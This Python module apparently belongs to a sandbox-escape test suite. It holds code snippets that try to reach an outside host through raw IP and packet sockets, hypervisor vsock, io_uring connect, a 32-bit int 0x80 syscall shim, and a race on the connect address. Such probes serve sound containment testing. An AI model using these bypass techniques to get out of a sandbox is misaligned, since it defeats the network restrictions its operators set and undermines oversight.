"""Escapes by what lies below the usual calls: packets, a hypervisor's sockets, rings, an old machine's calls, a race.

They go on from the beginning that escapes.py gives to every program. Numbers without a name are those of the kernel's
headers: linux/io_uring.h, linux/net.h, asm/unistd_32.h.
"""

from __future__ import annotations

RAW = """
datagram = struct.pack("!HHHH", 4444, DATAGRAMS, 8 + len(WORD), 0) + WORD
packet = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 1, 0, 64, 17, 0,
                     socket.inet_aton(OUTSIDE), socket.inet_aton(OUTSIDE)) + datagram
with trying(), socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
    raw.sendto(packet, (OUTSIDE, 0))
with trying(), socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
    raw.connect((OUTSIDE, 0)); raw.send(packet)
with trying(), socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0008) as link:
    link.bind(("lo", 0x0800)); link.send(packet)
"""
VSOCK = """
try: one = socket.socket(socket.AF_VSOCK)
except OSError: not_here()
gained("a socket to the machine that this one runs in")
"""
RING = """
import mmap
params = ctypes.create_string_buffer(120)
ring = call(425, 4, ctypes.addressof(params))
if ring < 0: not_here()
entries, tail_at, array_at = (struct.unpack_from("I", params, at)[0] for at in (0, 44, 64))
queue = mmap.mmap(ring, array_at + 4 * entries, offset=0)
calls = mmap.mmap(ring, 64 * entries, offset=0x10000000)
one, to = socket.socket(), ctypes.create_string_buffer(address(OUTSIDE, 443), 16)
struct.pack_into("=BBHiQQ", calls, 0, 16, 0, 0, one.fileno(), 16, ctypes.addressof(to))  # IORING_OP_CONNECT
struct.pack_into("I", queue, array_at, 0)
struct.pack_into("I", queue, tail_at, 1)
call(426, ring, 1, 1, 1, 0, 0)
with trying():
    one.sendall(WORD)
"""
OLD_CALLS = """
import mmap, platform
if platform.machine() != "x86_64": not_here()
if not os.fork():
    low = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, 7)  # MAP_32BIT
    at = ctypes.addressof(ctypes.c_char.from_buffer(low))
    low[:11] = bytes.fromhex("5389f889f389d1cd805bc3")  # eax, ebx, ecx = arguments; int 0x80
    old = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint, ctypes.c_uint, ctypes.c_uint)(at)
    one = socket.socket()
    low[64:80] = address(OUTSIDE, 443)
    low[96:108] = struct.pack("=III", one.fileno(), at + 64, 16)
    if old(102, 3, at + 96) == 0:  # socketcall, SYS_CONNECT
        with trying():
            one.sendall(WORD)
    os._exit(0)
if os.wait()[1]: not_here()
"""
RACE = """
import threading
sys.setswitchinterval(1e-4)
to, over = ctypes.create_string_buffer(16), threading.Event()
places = address("127.0.0.1", DOOR), address(OUTSIDE, 443)

def flip():
    while not over.is_set():
        for place in places: ctypes.memmove(to, place, 16)

flipping = threading.Thread(target=flip)
flipping.start()
for _ in range(300):
    with trying(), socket.socket() as one:
        if libc.connect(one.fileno(), to, 16) == 0:
            one.send(WORD)
over.set()
flipping.join()
"""
